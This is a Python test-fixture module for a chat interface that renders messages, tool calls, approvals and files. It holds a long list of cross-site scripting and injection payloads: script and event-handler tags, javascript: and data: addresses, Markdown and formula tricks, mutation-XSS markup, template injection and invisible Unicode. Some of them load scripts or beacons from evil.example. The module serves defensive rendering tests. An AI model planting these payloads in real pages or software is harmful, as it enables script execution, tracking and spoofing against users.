r"""Texts that would do harm where a page takes them for more than text.

Each calls `pwned()` if it runs, or asks a host outside if it is loaded. `fields(payload)` puts one
into every field of every part, also inside Markdown of every kind.
"""

from __future__ import annotations

from typing import Any

__all__ = ("PAYLOADS", "chat_text", "fields", "timeline_items")

PAYLOADS: tuple[str, ...] = (
    # elements that run
    "<script>pwned()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<img/src='x'/onerror='pwned()'>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned()>#x'></use></svg>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<object data='data:text/html,<script>parent.pwned()</script>'></object>",
    "<embed src=javascript:pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<video><source onerror=pwned()></video>",
    "<input autofocus onfocus=pwned()>",
    "<body onload=pwned()>",
    "<marquee onstart=pwned()>x</marquee>",
    "<form action=javascript:pwned()><button>press</button></form>",
    "<call-blocks onclick=pwned()></call-blocks>",
    # elements that ask outside, or change the page
    "<img src=https://evil.example/pixel.png>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    # addresses
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "java\tscript:pwned()",
    " \x01javascript:pwned()",
    "vbscript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>",
    "//evil.example/pixel.png",
    "https://evil.example/pixel.png",
    "https://user:pass@evil.example/",
    "blob:https://evil.example/1",
    "\\\\evil.example\\share",
    # Markdown
    "[press](javascript:pwned())",
    "[press](javascript&#58;pwned())",
    "[press](&#x6A;avascript:pwned())",
    "[press](<java\nscript:pwned()>)",
    "[press](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "![x](https://evil.example/pixel.png)",
    '![x](x"onerror="pwned())',
    '[x](https://ok.example/ "onmouseover=pwned()")',
    "<javascript:pwned()>",
    "[press][1]\n\n[1]: javascript:pwned()",
    "[press]: https://evil.example/ 'a\" onclick=pwned() \"b'\n\n[press]",
    '```"><img src=x onerror=pwned()>\ncode\n```',
    "`<img src=x onerror=pwned()>`",
    "| <img src=x onerror=pwned()> |\n|---|\n| <script>pwned()</script> |",
    "- <details open ontoggle=pwned()>\n\n  <svg onload=pwned()>",
    "# <img src=x onerror=pwned()>",
    # markup that changes its meaning when it is read twice
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=pwned()>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
    "<path id='</style><img onerror=pwned() src>'>",
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    "<template><script>pwned()</script></template>",
    "<a id=x name=parts><a id=x name=shadowRoot href=javascript:pwned()>",
    # formulas
    "\\href{javascript:pwned()}{press}",
    "\\includegraphics{https://evil.example/pixel.png}",
    "\\class{call-blocks}{x} \\id{title}{x} \\style{background:url(https://evil.example/x)}{x}",
    "\\data{onclick=pwned()}{x} \\htmlData{a=b}{x}",
    "\\color{url(https://evil.example/x)}{x} \\colorbox{red;background:url(//evil.example)}{x}",
    "\\def\\a{\\a\\a}\\a",
    "\\unicode{x3cscript} \\char`\\< \\text{</mtext><script>pwned()</script>}",
    "\\rule{99999em}{99999em} \\hspace{99999em} \\raise{9999em}{x}",
    # references, templates, ends of strings
    "&lt;img src=x onerror=pwned()&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "');pwned();//",
    '"><script>pwned()</script>',
    "__proto__",
    "constructor",
    # what the eye does not see
    "\u202egnp.exe\u202c",
    "\u2066\u2069\u200f\u061c",
    "pay\u200bpal\u00ad.com\ufeff",
    "\x1b[31mred\x1b]8;;https://evil.example/\x07link\x1b]8;;\x07",
    "\x00\x08\x7f\x9b\u2028\u2029",
    "tag\U000e0041\U000e0042",
    "&#x202e;reversed",
)


def fields(payload: str) -> list[dict[str, Any]]:
    """Parts with the payload in every field."""
    return [
        *_texts(payload),
        {"type": "validation", "text": payload},
        *_calls(payload),
        *_questions(payload),
        *_files(payload),
        {"type": "source-url", "sourceId": payload, "url": payload, "title": payload},
        {"type": "data-member", "id": payload, "data": _member(payload)},
        {"type": "data-problem", "id": payload, "data": {"code": payload, "detail": payload}},
        {"type": "data-ending", "id": payload, "data": {"status": payload, "text": payload}},
        {"type": payload, "text": payload},
        {"type": f"data-{payload}", "id": payload, "data": payload},
    ]


def _texts(payload: str) -> list[dict[str, Any]]:
    spoken = (
        payload,
        f"before {payload} after",
        f"[link]({payload})",
        f"![image]({payload})",
        f"[{payload}](https://ok.example/)",
        f"<{payload}>",
        f"```{payload}\n{payload}\n```",
        f"> - # {payload}",
        f"| {payload} |\n|--|\n| {payload} |",
        f"${payload}$ and \\({payload}\\)",
        f"$$\n{payload}\n$$",
        f"$\\text{{{payload}}}$",
        f"said[^1] and[^{payload}]\n\n[^1]: {payload}\n[^{payload}]: {payload}",
        f"```html\n{payload}\n```\n\n```js\n{payload}\n```",
    )
    of = {"providerMetadata": {"callblocks": {"member": payload}}}
    said = [{"type": "text", "text": text, "state": "done"} for text in spoken]
    live = {"type": "text", "text": payload, "state": "streaming", **of}
    return [*said, {"type": "reasoning", "text": payload, "state": "done"}, live]


def _calls(payload: str) -> list[dict[str, Any]]:
    input = {payload: payload, "nested": {payload: [payload]}}
    base = {"type": "dynamic-tool", "toolName": payload, "input": input}
    tall = "\n".join([payload] * 9)
    return [
        {**base, "toolCallId": payload, "state": "output-available", "output": payload},
        {**base, "toolCallId": f"{payload}2", "state": "output-available", "output": tall},
        {**base, "toolCallId": f"{payload}3", "state": "output-available", "output": input},
        {**base, "toolCallId": f"{payload}4", "state": "output-error", "errorText": tall},
        {**base, "toolCallId": f"{payload}5", "state": payload, "notices": [payload]},
        {**base, "toolCallId": f"{payload}6", "shown": payload, "code": payload, "output": tall},
        {
            "type": f"tool-{payload}",
            "toolCallId": "7",
            "state": "input-available",
            "input": payload,
        },
    ]


def _questions(payload: str) -> list[dict[str, Any]]:
    diff = f"--- {payload}\n+++ {payload}\n@@ -1,1 +1,1 @@\n-{payload}\n+{payload}\n"
    asked = {"toolName": payload, "input": {payload: payload}, "reason": payload}
    return [
        {
            "type": "data-approval",
            "id": f"{payload}{i}",
            "data": {**asked, "id": f"{payload}{i}", **more},
        }
        for i, more in enumerate(
            (
                {"toolCallId": payload, "preview": diff, "tainted": [payload, payload]},
                {"toolCallId": "x", "preview": payload},
                {"toolCallId": "y", "approved": False, "answer": payload},
            )
        )
    ]


def _files(payload: str) -> list[dict[str, Any]]:
    made = {"digest": payload, "size": 3, "toolCallId": payload, "url": payload}
    artifacts = [
        {
            "type": "data-artifact",
            "id": f"{payload}{mime}",
            "data": {**made, "path": payload, "mime": mime},
        }
        for mime in (payload, "image/png", "application/pdf")
    ]
    given = {"type": "file", "filename": payload, "url": payload}
    files = [{**given, "mediaType": mime, "text": payload} for mime in (payload, "image/png")]
    return [*artifacts, *files]


def _member(payload: str) -> dict[str, str]:
    return {"name": payload, "status": payload, "message": payload}


def chat_text(payload: str) -> str:
    """A chat text with the payload, as it stands and as a block."""
    block = f"<tool>{payload}(a={payload})\n{payload}</tool>"
    return f"{payload}\n\n{block}\n<validation>{payload}</validation>"


def timeline_items(payload: str) -> list[dict[str, Any]]:
    """The items of a timeline with the payload in each field."""
    file = {"path": payload, "mime": "image/png", "image": payload, "text": payload, "size": 3}
    call = {"seq": 2, "name": payload, "line": payload, "result": payload, "notices": [payload]}
    return [
        {
            "kind": "message",
            "who": "user",
            "turn": payload,
            "seq": 1,
            "text": payload,
            "files": [file],
        },
        {
            "kind": "batch",
            "turn": payload,
            "seq": 2,
            "calls": [{**call, "code": payload, "files": [file]}],
        },
        {"kind": "lost", "turn": payload, "seq": 3, "words": payload},
        {"kind": "ended", "turn": payload, "seq": 4, "words": payload},
        {"kind": payload, "turn": payload, "seq": 5},
    ]
